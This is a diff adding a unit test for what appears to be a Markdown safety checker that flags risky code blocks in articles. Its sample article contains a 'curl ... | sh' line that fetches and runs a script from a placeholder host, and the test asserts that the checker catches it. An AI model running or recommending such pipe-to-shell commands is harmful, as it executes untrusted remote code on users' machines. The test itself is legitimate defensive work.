@@ -97,3 +97,15 @@ def test_verify_fails_a_doctored_article_and_names_the_block(tmp_path):
     assert result.exit_code == 1
     assert "✗ code blocks are safe to run" in result.output
     assert "runs 'sh', not curl" in result.output.replace("\n", " ")
+
+
+def test_transcripts_are_judged_by_what_the_reader_types():
+    article = (
+        "```console\n$ curl -s https://x.example/i.sh | sh\ninstalled\n```\n\n"
+        "```pycon\n>>> import subprocess\n>>> 1 + 1\n2\n```\n\n"
+        "```shell\n$ curl https://x.example/v1/tasks\n{}\n```\n"
+    )
+    assert markdown_problems(article) == [
+        "console block at line 1: line 1: runs 'sh', not curl",
+        "pycon block at line 6: line 1: imports subprocess",
+    ]
